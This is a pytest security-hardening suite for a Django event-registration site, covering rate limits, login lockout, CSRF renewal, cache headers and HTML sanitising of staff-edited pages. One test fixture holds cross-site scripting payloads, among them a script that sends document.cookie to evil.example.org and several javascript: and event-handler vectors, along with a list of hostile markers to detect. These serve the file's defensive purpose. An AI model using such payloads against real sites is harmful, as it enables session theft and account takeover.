"""Hardening from the security review: each test fails on the code as it was before."""

import io
import logging
from datetime import date

import pytest
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model
from django.contrib.flatpages.models import FlatPage
from django.contrib.sites.models import Site
from django.core.cache import cache
from django.core.management import CommandError, call_command

from jahrestreffen import proxies
from registrations.tokens import manage_tokens, sign_in_tokens
from registrations.views import client_ip
from tests.factories import ContactPersonFactory, EventFactory, RegistrationFactory


@pytest.fixture(autouse=True)
def _empty_cache():
    """Rate-limit counters and cached pages live in the cache; every test starts with none."""
    cache.clear()
    yield
    cache.clear()


# --- demo users with published passwords -------------------------------------------------


@pytest.mark.django_db
def test_load_demo_refuses_the_published_staff_passwords_with_debug_off(settings):
    settings.DEBUG = False

    with pytest.raises(CommandError, match="--allow-demo-users"):
        call_command("load_demo", stdout=io.StringIO())

    assert not get_user_model().objects.filter(username="difu-admin").exists()


@pytest.mark.django_db
def test_load_demo_creates_the_demo_staff_in_development(settings):
    settings.DEBUG = True

    call_command("load_demo", stdout=io.StringIO())

    assert get_user_model().objects.get(username="difu-admin").check_password("jahrestreffen-demo")


@pytest.mark.django_db
def test_load_demo_creates_the_demo_staff_when_asked_by_name(settings):
    settings.DEBUG = False

    call_command("load_demo", "--allow-demo-users", stdout=io.StringIO())

    assert get_user_model().objects.get(username="difu-admin").is_superuser


# --- client addresses behind proxies --------------------------------------------------------

SIGN_IN = "/anmelden/"


@pytest.mark.parametrize(
    ("remote_addr", "identity"),
    [
        ("198.51.100.7", "198.51.100.7"),
        ("2001:db8:1:2:aaaa:bbbb:cccc:dddd", "2001:db8:1:2::/64"),
        ("2001:db8:1:2::1", "2001:db8:1:2::/64"),
        ("::ffff:198.51.100.7", "198.51.100.7"),
    ],
)
def test_rate_limits_count_ipv6_clients_by_their_64_network(rf, remote_addr, identity):
    assert client_ip(rf.get("/", REMOTE_ADDR=remote_addr)) == identity


def test_a_forwarded_ipv6_client_is_counted_by_its_network_too(rf, settings):
    settings.TRUSTED_PROXY_COUNT = 1
    request = rf.get("/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="2001:db8:9:9::42")

    assert client_ip(request) == "2001:db8:9:9::/64"


@pytest.mark.django_db
def test_a_client_cannot_escape_the_rate_limit_by_hopping_through_its_ipv6_network(
    client, settings
):
    settings.SIGN_IN_RATE_PER_ADDRESS = 100
    settings.SIGN_IN_RATE_PER_IP = 2
    for n in range(2):
        response = client.post(
            SIGN_IN, {"email": f"p{n}@example.org"}, REMOTE_ADDR=f"2001:db8::{n}"
        )
        assert response.status_code == 200

    hopped = client.post(SIGN_IN, {"email": "p9@example.org"}, REMOTE_ADDR="2001:db8::ffff:1")
    other_network = client.post(SIGN_IN, {"email": "p9@example.org"}, REMOTE_ADDR="2001:db8:0:1::1")

    assert hopped.status_code == 429
    assert other_network.status_code == 200


def _setting_in_a_fresh_process(name: str, env: dict) -> str:
    from tests.test_deploy import _manage

    result = _manage(
        {"DEBUG": "0", "SECRET_KEY": "x" * 60, **env},
        "shell",
        "-c",
        f"from django.conf import settings; print(repr(settings.{name}))",
    )
    assert result.returncode == 0, result.stderr
    return result.stdout.strip().splitlines()[-1]


def test_the_forwarded_protocol_is_trusted_only_behind_a_proxy():
    assert _setting_in_a_fresh_process("SECURE_PROXY_SSL_HEADER", {}) == "None"
    assert _setting_in_a_fresh_process(
        "SECURE_PROXY_SSL_HEADER", {"TRUSTED_PROXY_COUNT": "1"}
    ) == repr(("HTTP_X_FORWARDED_PROTO", "https"))


@pytest.mark.django_db
def test_a_forwarded_request_without_a_trusted_proxy_is_logged_once_and_shown_by_healthz(
    client, caplog
):
    assert client.get("/healthz").json()["proxy"] == "ok"

    with caplog.at_level(logging.WARNING, logger="jahrestreffen.proxies"):
        client.get("/", HTTP_X_FORWARDED_FOR="203.0.113.5")
        client.get("/", HTTP_X_FORWARDED_FOR="203.0.113.6")
    health = client.get("/healthz")

    warnings = [r for r in caplog.records if r.name == "jahrestreffen.proxies"]
    assert len(warnings) == 1
    assert "TRUSTED_PROXY_COUNT" in warnings[0].getMessage()
    assert health.status_code == 200
    assert health.json()["proxy"].startswith("warning:")
    assert "TRUSTED_PROXY_COUNT is 0" in health.json()["proxy"]


@pytest.mark.django_db
def test_a_forwarded_request_through_the_configured_proxies_is_no_warning(client, settings):
    settings.TRUSTED_PROXY_COUNT = 1

    client.get("/", HTTP_X_FORWARDED_FOR="203.0.113.5")

    assert not proxies.unexpected_forwarded_header_seen()
    assert client.get("/healthz").json()["proxy"] == "ok"


# --- staff login against password guessing (django-axes) ------------------------------------

ADMIN_LOGIN = "/admin/login/"
STAFF_PASSWORD = "pw-staff-123"


@pytest.fixture
def staff_user(django_user_model):
    return django_user_model.objects.create_superuser("staff", "staff@example.org", STAFF_PASSWORD)


def _log_in(client, password, username="staff", **extra):
    return client.post(
        ADMIN_LOGIN, {"username": username, "password": password, "next": "/admin/"}, **extra
    )


def _signed_in(client) -> bool:
    return client.get("/admin/").status_code == 200


@pytest.mark.django_db
def test_forty_wrong_passwords_lock_the_staff_login_so_the_right_one_no_longer_works(
    client, staff_user
):
    for n in range(40):
        _log_in(client, f"guess-{n}")

    response = _log_in(client, STAFF_PASSWORD)

    assert response.status_code == 429
    assert not _signed_in(client)
    page = response.content.decode()
    assert "Anmeldung vorübergehend gesperrt" in page
    assert "für 15 Minuten gesperrt" in page


@pytest.mark.django_db
def test_the_right_password_works_below_the_failure_limit(client, staff_user, settings):
    for n in range(settings.AXES_FAILURE_LIMIT - 1):
        assert _log_in(client, f"guess-{n}").status_code == 200  # the form again, with an error

    assert _log_in(client, STAFF_PASSWORD).status_code == 302
    assert _signed_in(client)


@pytest.mark.django_db
def test_the_lock_out_holds_one_user_name_from_one_address_only(client, staff_user, settings):
    other = get_user_model().objects.create_superuser("other", "o@example.org", STAFF_PASSWORD)
    for n in range(settings.AXES_FAILURE_LIMIT):
        _log_in(client, f"guess-{n}", REMOTE_ADDR="198.51.100.1")
    assert _log_in(client, STAFF_PASSWORD, REMOTE_ADDR="198.51.100.1").status_code == 429

    # The owner, elsewhere, and a colleague at the same address are not locked out.
    assert _log_in(client, STAFF_PASSWORD, REMOTE_ADDR="198.51.100.2").status_code == 302
    client.logout()
    assert (
        _log_in(client, STAFF_PASSWORD, other.username, REMOTE_ADDR="198.51.100.1").status_code
        == 302
    )


@pytest.mark.django_db
def test_behind_a_proxy_the_lock_out_follows_the_forwarded_client_not_its_forged_part(
    client, staff_user, settings
):
    settings.TRUSTED_PROXY_COUNT = 1
    for n in range(settings.AXES_FAILURE_LIMIT):
        # The attacker writes a different address into the header each time; the proxy
        # appends the real one.
        _log_in(client, f"guess-{n}", HTTP_X_FORWARDED_FOR=f"10.9.9.{n}, 203.0.113.9")

    locked = _log_in(client, STAFF_PASSWORD, HTTP_X_FORWARDED_FOR="10.8.8.8, 203.0.113.9")
    elsewhere = _log_in(client, STAFF_PASSWORD, HTTP_X_FORWARDED_FOR="203.0.113.10")

    assert locked.status_code == 429
    assert elsewhere.status_code == 302


def test_the_lock_out_limits_come_from_the_environment():
    env = {"AXES_FAILURE_LIMIT": "3", "AXES_COOLOFF_MINUTES": "30"}

    assert _setting_in_a_fresh_process("AXES_FAILURE_LIMIT", env) == "3"
    assert (
        _setting_in_a_fresh_process("AXES_COOLOFF_TIME", env) == "datetime.timedelta(seconds=1800)"
    )


# --- CSRF token renewed at sign-in and sign-out of contact persons -----------------------------


@pytest.mark.django_db
def test_signing_in_renews_the_csrf_token(client):
    person = ContactPersonFactory()
    client.get(SIGN_IN)
    before = client.cookies[django_settings.CSRF_COOKIE_NAME].value

    response = client.post(f"/anmelden/link/{sign_in_tokens.make_token(person)}/")

    assert response.status_code == 302
    assert client.session["contact_person"]["id"] == person.pk
    assert django_settings.CSRF_COOKIE_NAME in response.cookies
    assert client.cookies[django_settings.CSRF_COOKIE_NAME].value != before


@pytest.mark.django_db
def test_signing_out_renews_the_csrf_token(client):
    person = ContactPersonFactory()
    session = client.session
    session["contact_person"] = {"id": person.pk, "epoch": person.session_epoch}
    session.save()
    client.get(SIGN_IN)
    before = client.cookies[django_settings.CSRF_COOKIE_NAME].value

    response = client.post("/abmelden/")

    assert response.status_code == 302
    assert "contact_person" not in client.session
    assert django_settings.CSRF_COOKIE_NAME in response.cookies
    assert client.cookies[django_settings.CSRF_COOKIE_NAME].value != before


# --- site pages (flat pages edited by staff) --------------------------------------------------

HOSTILE_PAGE = """
<meta http-equiv="refresh" content="0; url=https://evil.example.org/">
<script>document.location = "https://evil.example.org/?" + document.cookie</script>
<style>body { display: none }</style>
<h2 onclick="steal()">Anbieter</h2>
<p style="position: fixed; inset: 0">Deutsches Institut für <abbr title="Urbanistik">Urb.</abbr></p>
<p><img src="x" onerror="steal()"><iframe src="https://evil.example.org/"></iframe>
<svg onload="steal()"></svg><form action="https://evil.example.org/"><input name="pw"></form></p>
<p><a href="javascript:steal()">Klick</a>
<a href="data:text/html,<script>steal()</script>">Daten</a>
<a href=" JaVaScRiPt:steal()">Versteckt</a> <a href="vbscript:steal()">VB</a></p>
<p><a href="https://difu.de/" onmouseover="steal()" target="_blank">Difu</a>
<a href="mailto:info@difu.de">Mail</a> <a href="/datenschutz/">Datenschutz</a></p>
<ul><li><strong>fett</strong> <em>kursiv</em><br></li></ul><ol><li>eins</li></ol>
<table><thead><tr><th scope="col">Tag</th></tr></thead><tbody><tr><td>Mo</td></tr></tbody></table>
"""


@pytest.mark.django_db
def test_site_pages_render_only_the_allowed_markup(client):
    page, _ = FlatPage.objects.update_or_create(
        url="/impressum/", defaults={"title": "Impressum", "content": HOSTILE_PAGE}
    )
    page.sites.add(Site.objects.get_current())

    response = client.get("/impressum/")

    assert response.status_code == 200
    html = response.content.decode()
    body = html[html.index("<article") : html.index("</article>")]
    for hostile in [
        "<meta",
        "<script",
        "document.cookie",
        "<style",
        "display: none",
        "onclick",
        "onerror",
        "onload",
        "onmouseover",
        "style=",
        "<img",
        "<iframe",
        "<svg",
        "<form",
        "<input",
        "javascript:",
        "JaVaScRiPt",
        "data:text",
        "vbscript:",
        "target=",
        "steal()",
    ]:
        assert hostile not in body, hostile
    for allowed in [
        "<h2>Anbieter</h2>",
        '<abbr title="Urbanistik">Urb.</abbr>',
        '<a href="https://difu.de/" rel="noopener noreferrer">Difu</a>',
        '<a href="mailto:info@difu.de" rel="noopener noreferrer">Mail</a>',
        '<a href="/datenschutz/" rel="noopener noreferrer">Datenschutz</a>',
        "<strong>fett</strong> <em>kursiv</em><br>",
        "<ol><li>eins</li></ol>",
        '<th scope="col">Tag</th>',
        "<td>Mo</td>",
    ]:
        assert allowed in body, allowed


# --- admin list filters with values from the URL -------------------------------------------------

EVENTS = "/admin/events/event/"
REGISTRATIONS = "/admin/registrations/registration/"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query",
    ["year=abc", "year=99999999999999999999", "year=0", "year=-5", "year=1e3", "year=٢٠٢٦"],
)
def test_a_bad_year_filter_is_refused_like_any_wrong_admin_filter(staff_client, query):
    EventFactory()

    response = staff_client.get(f"{EVENTS}?{query}")

    assert response.status_code == 302
    assert response["Location"] == f"{EVENTS}?e=1"


@pytest.mark.django_db
def test_the_year_filter_still_filters(staff_client):
    this = EventFactory(title="Treffen Zweitausendsechsundzwanzig", days=[date(2026, 6, 4)])
    other = EventFactory(title="Treffen Zweitausendneunzehn", days=[date(2019, 6, 4)])

    page = staff_client.get(f"{EVENTS}?year=2026").content.decode()

    assert this.title in page
    assert other.title not in page


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    [
        f"{EVENTS}?event__id__exact=abc",
        f"{EVENTS}?status=nonsense",
        f"{EVENTS}?series__id__exact=abc",
        f"{EVENTS}?series__id__exact=99999999999999999999",
        f"{EVENTS}?published__exact=abc",
        f"{REGISTRATIONS}?event__id__exact=abc",
        f"{REGISTRATIONS}?event__id__exact=99999999999999999999",
        f"{REGISTRATIONS}?status=nonsense",
        f"{REGISTRATIONS}?item=abc",
        f"{REGISTRATIONS}?item=99999999999999999999",
        f"{REGISTRATIONS}?year=abc",
    ],
)
def test_bad_filter_values_in_admin_lists_answer_without_a_server_error(staff_client, url):
    RegistrationFactory()

    response = staff_client.get(url)

    assert response.status_code in (200, 302), response.status_code
    if response.status_code == 302:
        assert response["Location"].endswith("?e=1")


# --- caching headers ---------------------------------------------------------------------------


def _cache_control(response) -> set[str]:
    return {part.strip() for part in response.get("Cache-Control", "").split(",") if part.strip()}


def _vary(response) -> set[str]:
    return {part.strip().lower() for part in response.get("Vary", "").split(",") if part.strip()}


@pytest.fixture
def personal_pages(client):
    """A signed-in contact person with a registration, and every page that is theirs alone."""
    registration = RegistrationFactory()
    person, event = registration.registered_by, registration.event
    EventFactory(replaces=event, published=True)  # so the carry-over page exists
    session = client.session
    session["contact_person"] = {"id": person.pk, "epoch": person.session_epoch}
    session.save()
    token = manage_tokens.make_token(registration)
    return [
        "/meine-anmeldungen/",
        f"/veranstaltungen/{event.slug}/anmeldung/",
        f"/veranstaltungen/{event.slug}/teilnehmende/",
        f"/anmeldung/{token}/",
        f"/anmeldung/{token}/bestaetigung/",
        f"/anmeldung/{token}/kalender.ics",
        f"/anmeldung/{token}/uebertragen/",
        f"/anmelden/link/{sign_in_tokens.make_token(ContactPersonFactory())}/",
    ]


@pytest.mark.django_db
def test_personal_pages_may_not_be_stored_by_any_cache(client, personal_pages):
    for path in personal_pages:
        response = client.get(path)

        assert response.status_code in (200, 403), (path, response.status_code)
        assert {"private", "no-store"} <= _cache_control(response), path
        assert "public" not in _cache_control(response), path


@pytest.mark.django_db
def test_a_personal_page_redirecting_to_the_sign_in_is_not_stored_either(client):
    response = client.get("/meine-anmeldungen/")

    assert response.status_code == 302
    assert {"private", "no-store"} <= _cache_control(response)


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", ["", "/en"])
def test_public_pages_vary_by_cookie_whether_from_the_page_cache_or_not(
    client, settings, django_assert_num_queries, prefix
):
    settings.PUBLIC_PAGE_CACHE_SECONDS = 60
    event = EventFactory()
    for path in [f"{prefix}/", f"{prefix}{event.get_absolute_url()}"]:
        rendered = client.get(path)
        with django_assert_num_queries(0):
            cached = client.get(path)

        assert rendered.status_code == cached.status_code == 200
        assert "cookie" in _vary(rendered), path
        assert "cookie" in _vary(cached), path
        assert cached.content == rendered.content


@pytest.mark.django_db
def test_a_head_request_is_answered_from_the_page_cache_too(client, settings):
    settings.PUBLIC_PAGE_CACHE_SECONDS = 60
    event = EventFactory()
    client.get(event.get_absolute_url())

    response = client.head(event.get_absolute_url())

    assert response.status_code == 200
    assert "cookie" in _vary(response)


@pytest.mark.django_db
def test_event_pages_calendar_site_pages_and_health_answer_head(client):
    event = EventFactory()
    for path in [
        "/",
        "/en/",
        event.get_absolute_url(),
        f"{event.get_absolute_url()}kalender.ics",
        "/impressum/",
        "/healthz",
    ]:
        response = client.head(path)

        assert response.status_code == 200, (path, response.status_code)
        assert response.content == b"", path


@pytest.mark.django_db
def test_pages_with_a_form_answer_head_as_they_answer_get(client):
    """A link checker or monitor sends HEAD: a form page must not answer 405 where GET works."""
    event = EventFactory()
    for path in [
        "/anmelden/",
        "/zugang-beantragen/",
        f"{event.get_absolute_url()}link-erneut/",
        f"{event.get_absolute_url()}anmeldung/",
    ]:
        assert client.head(path).status_code == client.get(path).status_code != 405, path
